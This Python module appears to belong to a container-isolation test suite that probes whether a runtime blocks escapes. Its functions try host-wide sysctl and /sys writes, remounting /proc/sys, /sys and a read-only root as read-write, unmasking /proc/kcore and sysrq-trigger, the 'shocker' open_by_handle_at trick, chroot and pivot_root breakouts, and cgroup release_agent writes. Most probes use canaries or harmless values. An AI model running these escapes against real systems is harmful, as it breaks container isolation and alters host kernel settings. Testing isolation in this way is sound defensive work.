"""Attempts through mounts and paths: /proc/sys and /sys, fresh and remounted API file
systems, masks, file handles, chroot and pivot_root, the mount table, cgroup hierarchies."""

import ctypes
import errno
import os
import socket
import struct

from . import probe
from .probe import (CLONE_NEWNS, CLONE_NEWUSER, ESCAPED, FileHandle, MNT_DETACH, MS_BIND,
                     MS_NODEV, MS_NOEXEC, MS_NOSUID, MS_PRIVATE, MS_REC, MS_REMOUNT,
                     KSM_PAGES, REACHED, READ_ONLY_MARKER, REFUSED, WORK, attempt,
                     canary_reachable_at, climb_out, contained, errname,
                     host_canary_visible, mount, mountinfo, private_mount_ns, read_file,
                     same_file, sc, try_os, verdict, worst, write_canary_at, write_file,
                     write_global_knobs)


@attempt("main", "privnet")
def proc_sys_global_write(cfg):
    """write host-wide knobs: kernel.printk_ratelimit_burst and /sys/kernel/mm/ksm/pages_to_scan"""
    return write_global_knobs(cfg)


@attempt()
def proc_sys_hostname(cfg):
    """write kernel.hostname through /proc/sys (escaped if the host's name changes)"""
    err = write_file("/proc/sys/kernel/hostname", f"esc-{cfg['token']}")
    return contained(err)


@attempt()
def sethostname(cfg):
    """sethostname(2) (escaped if the host's name changes)"""
    _, err = try_os(socket.sethostname, f"esc-{cfg['token']}")
    return contained(err)


@attempt("main", "privnet")
def sys_kernel_write(cfg):
    """write /sys/kernel/mm/ksm/pages_to_scan (a host-wide knob)"""
    if read_file("/sys/" + KSM_PAGES) is None:
        return REFUSED, "not readable"
    err = write_file("/sys/" + KSM_PAGES, str(cfg["knob_value"]))
    return verdict(err), errname(err)


@attempt()
def sysrq_trigger(cfg):
    """write 'h' (help: harmless) to /proc/sysrq-trigger"""
    err = write_file("/proc/sysrq-trigger", "h")
    return verdict(err), errname(err)


def _fresh_mount_then_write_knobs(cfg, fstype: str, through: str, **others):
    """Mount a new *fstype* instance read-write in a mount namespace of our own and write the
    host-wide knobs through it: *through* names write_global_knobs' argument (proc or sys_)
    that gets the new mount, *others* the rest of its arguments."""
    private_mount_ns()
    target = os.path.join(WORK, fstype)
    os.makedirs(target, exist_ok=True)
    err = mount(fstype, target, fstype, MS_NOSUID | MS_NODEV | MS_NOEXEC)
    if err:
        return verdict(err, REACHED), f"mount: {errname(err)}"
    outcome, detail = write_global_knobs(cfg, **others, **{through: target})
    return worst(REACHED, outcome), "mount ok; " + detail


@attempt()
def proc_mount_fresh_rw(cfg):
    """mount a new proc instance and write host-wide sysctls through it"""
    return _fresh_mount_then_write_knobs(cfg, "proc", "proc")


@attempt("main", "privnet")
def sysfs_mount_fresh_rw(cfg):
    """mount a new sysfs instance read-write and write /sys/kernel/mm/ksm/pages_to_scan through it"""
    return _fresh_mount_then_write_knobs(cfg, "sysfs", "sys_", proc="/nonexistent")


# statvfs() flags that are also mount(2) flags of the same value, and the odd one out
KEPT_FLAGS = MS_NOSUID | MS_NODEV | MS_NOEXEC | 1024 | 2048   # noatime, nodiratime
ST_RELATIME, MS_RELATIME = 4096, 1 << 21


def remount_rw(path):
    """Remount *path* read-write, keeping its other flags (clearing a locked nosuid or
    noexec would fail for that reason alone)."""
    try:
        current = os.statvfs(path).f_flag
    except OSError as e:
        return e.errno
    flags = current & KEPT_FLAGS | (MS_RELATIME if current & ST_RELATIME else 0)
    return mount(None, path, None, MS_REMOUNT | MS_BIND | flags)


@attempt("main", "privnet")
def remount_proc_sys_rw(cfg):
    """remount /proc/sys read-write, then write host-wide sysctls"""
    private_mount_ns()
    err = remount_rw("/proc/sys")
    outcome, detail = write_global_knobs(cfg)
    return worst(verdict(err, REACHED), outcome), f"remount: {errname(err)}; {detail}"


@attempt("main", "privnet")
def remount_sys_rw(cfg):
    """remount /sys read-write, then write /sys/kernel/mm/ksm/pages_to_scan"""
    private_mount_ns()
    err = remount_rw("/sys")
    outcome, detail = write_global_knobs(cfg, proc="/nonexistent")
    return worst(verdict(err, REACHED), outcome), f"remount: {errname(err)}; {detail}"


@attempt()
def remount_bind_ro_rw(cfg):
    """remount the --bind-ro host directory read-write and write to a world-writable file in it"""
    private_mount_ns()
    err = remount_rw("/escape-host")
    wrote = write_file("/escape-host/world-writable", f"written by {probe.CURRENT}\n")
    return worst(verdict(err, REACHED), verdict(wrote)), \
        f"remount: {errname(err)}, write: {errname(wrote)}"


@attempt("readonly")
def remount_read_only_root_rw(cfg):
    """with --read-only, remount / read-write and write to the tree"""
    private_mount_ns()
    err = remount_rw("/")
    _, wrote = try_os(os.open, READ_ONLY_MARKER, os.O_WRONLY | os.O_CREAT | os.O_CLOEXEC, 0o644)
    return worst(verdict(err, REACHED), verdict(wrote)), \
        f"remount: {errname(err)}, write: {errname(wrote)}"


@attempt()
def umount_proc_masks(cfg):
    """unmount what covers /proc/sys, /proc/sysrq-trigger, /proc/kcore, then use them"""
    private_mount_ns()
    details = []
    for path in ("/proc/sys", "/proc/sysrq-trigger", "/proc/kcore"):
        for _ in range(4):   # masks may be stacked
            _, err = sc("umount2", path, MNT_DETACH)
            if err:
                break
            details.append(f"umount {path}")
    outcome, knobs = write_global_knobs(cfg)
    outcomes = [outcome]
    err = write_file("/proc/sysrq-trigger", "h")
    outcomes.append(verdict(err))
    try:
        with open("/proc/kcore", "rb") as f:
            f.read(16)
        outcomes.append(ESCAPED)
        details.append("kcore read")
    except OSError as e:
        details.append(f"kcore: {errname(e.errno)}")
    return worst(*outcomes), "; ".join(details + [knobs, f"sysrq: {errname(err)}"])


@attempt()
def unshare_userns_mount_tricks(cfg):
    """unshare a user+mount namespace, then remount/unmount/mount proc and sysfs to write
    host-wide knobs"""
    uid, gid = os.getuid(), os.getgid()
    _, err = sc("unshare", CLONE_NEWUSER | CLONE_NEWNS)
    if err:
        return verdict(err, REACHED), f"unshare: {errname(err)}"
    write_file("/proc/self/setgroups", "deny")
    write_file("/proc/self/uid_map", f"0 {uid} 1")
    write_file("/proc/self/gid_map", f"0 {gid} 1")
    mount(None, "/", None, MS_REC | MS_PRIVATE)
    steps = {"remount /proc/sys": remount_rw("/proc/sys"),
             "remount /sys": remount_rw("/sys"),
             "umount /proc/sys": sc("umount2", "/proc/sys", MNT_DETACH)[1]}
    os.makedirs(WORK + "/uproc", exist_ok=True)
    os.makedirs(WORK + "/usys", exist_ok=True)
    steps["mount proc"] = mount("proc", WORK + "/uproc", "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC)
    steps["mount sysfs"] = mount("sysfs", WORK + "/usys", "sysfs", MS_NOSUID | MS_NODEV | MS_NOEXEC)
    outcomes = [write_global_knobs(cfg)[0],
                write_global_knobs(cfg, WORK + "/uproc", WORK + "/usys")[0]]
    detail = ", ".join(f"{k}: {errname(v)}" for k, v in steps.items())
    return worst(*outcomes), detail


def open_handle(handle_type, raw, flags):
    h = FileHandle(len(raw), handle_type)
    ctypes.memmove(h.f_handle, raw, len(raw))
    mount_fd = os.open("/", os.O_RDONLY | os.O_DIRECTORY | os.O_CLOEXEC)
    try:
        r, err = sc("open_by_handle_at", mount_fd, ctypes.byref(h), flags)
        return (r if r >= 0 else None), err
    finally:
        os.close(mount_fd)


@attempt()
def open_by_handle_fs_root(cfg):
    """guess the handle of the host file system's root (inode 2, as "shocker" did) and open
    the host's canary through it"""
    fd, err = open_handle(1, struct.pack("=II", 2, 0), os.O_RDONLY | os.O_DIRECTORY)
    if fd is None:
        return verdict(err, REACHED), f"open_by_handle_at: {errname(err)}"
    try:
        is_host_root = same_file(os.fstat(fd), cfg["host_fsroot_id"])
        wrote = write_canary_at(cfg["canary_rel"].lstrip("/"), dir_fd=fd)
        return (ESCAPED if is_host_root or wrote else REACHED), f"opened; canary written: {wrote}"
    finally:
        os.close(fd)


@attempt()
def name_to_handle_and_open_host_file(cfg):
    """name_to_handle_at(2) works on the tree; open_by_handle_at(2) with the handle of the
    host's canary file (made on the host)"""
    h = FileHandle(128, 0)
    mount_id = ctypes.c_int()
    _, err_name = sc("name_to_handle_at", -100, "/etc/os-release", ctypes.byref(h),
                     ctypes.byref(mount_id), 0)
    handle_type, raw = cfg["canary_handle"]
    fd, err = open_handle(handle_type, bytes.fromhex(raw), os.O_WRONLY | os.O_APPEND)
    detail = f"name_to_handle_at: {errname(err_name)}, open_by_handle_at: {errname(err)}"
    if fd is None:
        return verdict(err, REACHED), detail
    try:
        os.write(fd, f"written by {probe.CURRENT}\n".encode())
    finally:
        os.close(fd)
    return ESCAPED, detail


def seen_host(cfg):
    if host_canary_visible(cfg):
        return ESCAPED, "host canary visible"
    return REFUSED, "host canary not visible"


@attempt()
def chroot_break_classic(cfg):
    """chroot into a subdirectory, chdir .. past it, chroot(".") and look for the host"""
    jail = os.path.join(WORK, "jail")
    os.makedirs(jail, exist_ok=True)
    _, err = try_os(os.chroot, jail)
    if err:
        return verdict(err, REACHED), f"chroot: {errname(err)}"
    climb_out()
    os.chroot(".")
    return seen_host(cfg)


@attempt()
def chroot_break_fd(cfg):
    """keep a directory fd of /, chroot elsewhere, fchdir back and climb out"""
    fd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    jail = os.path.join(WORK, "jail")
    os.makedirs(jail, exist_ok=True)
    os.chroot(jail)
    os.fchdir(fd)
    climb_out()
    os.chroot(".")
    return seen_host(cfg)


@attempt()
def pivot_root_back(cfg):
    """pivot_root(".", ".") and detach the old root, climb .., look for the host"""
    private_mount_ns()
    os.chdir("/")
    _, err = sc("pivot_root", ".", ".")
    if err == 0:
        sc("umount2", ".", MNT_DETACH)
        os.chdir("/")
    climb_out()
    seen = host_canary_visible(cfg)
    return (ESCAPED if seen else verdict(err, REACHED)), f"pivot_root: {errname(err)}"


@attempt()
def host_fs_reachable_in_mount_table(cfg):
    """a mount of the host's file system whose subtree holds the host canary"""
    major, minor = cfg["host_disk"]
    rel = cfg["canary_rel"]
    for devno, root, mountpoint in mountinfo():
        if devno != f"{major}:{minor}":
            continue
        if rel == root or rel.startswith(root.rstrip("/") + "/"):
            path = mountpoint.rstrip("/") + rel[len(root.rstrip("/")):]
            if canary_reachable_at(path, cfg):
                return ESCAPED, f"canary at {path}"
    return REFUSED, "no mount exposes it"


def cgroup_mount_candidates():
    """Fresh mounts of every cgroup hierarchy (v1 controllers, name=systemd, cgroup2) and the
    ones in the container's view; yields (hierarchy key, path of its root as we see it)."""
    for line in (read_file("/proc/cgroups") or "").splitlines()[1:]:
        name, hierarchy, _, enabled = line.split()
        if hierarchy != "0" and enabled == "1":
            yield from fresh_cgroup_mount(name, "cgroup", name)
    yield from fresh_cgroup_mount("name=systemd", "cgroup", "none,name=systemd")
    yield from fresh_cgroup_mount("", "cgroup2", None)
    for _, _, mountpoint in mountinfo():
        if mountpoint.startswith("/sys/fs/cgroup"):
            yield "view", mountpoint


def fresh_cgroup_mount(key, fstype, options):
    target = os.path.join(WORK, "cg-" + (key.replace("=", "-") or "unified"))
    os.makedirs(target, exist_ok=True)
    if mount("cgroup", target, fstype, 0, options) == 0:
        yield key, target


@attempt()
def cgroup_release_agent(cfg):
    """write release_agent (run as host root when a cgroup empties) of every cgroup v1
    hierarchy we can see or mount, with its own value"""
    private_mount_ns()
    tried, written = [], []
    for _, root in cgroup_mount_candidates():
        path = os.path.join(root, "release_agent")
        value = read_file(path)
        if value is None:
            continue
        err = write_file(path, value if value.strip() else "\n")
        tried.append(f"{path}: {errname(err)}")
        if err == 0:
            written.append(path)
    if written:
        return ESCAPED, f"written: {written}"
    return (REACHED if tried else REFUSED), "; ".join(tried) or "no release_agent visible"


@attempt()
def cgroup_outside_subtree(cfg):
    """reach the test's canary cgroups (outside the container's subtree) through any cgroup
    mount: mkdir in them, set notify_on_release, move a process in"""
    private_mount_ns()
    hits = []
    for _, root in cgroup_mount_candidates():
        for rel in cfg["cgroup_canaries"]:
            d = root + rel
            if not os.path.isdir(d):
                continue
            steps = {"mkdir": try_os(os.mkdir, d + "/escaped")[1],
                     "notify_on_release": write_file(d + "/notify_on_release", "1")
                     if os.path.exists(d + "/notify_on_release") else errno.ENOENT,
                     "cgroup.procs": write_file(d + "/cgroup.procs", str(os.getpid()))}
            hits += [f"{d} {k}" for k, e in steps.items() if e == 0]
    return (ESCAPED if hits else REFUSED), f"changed: {hits}"
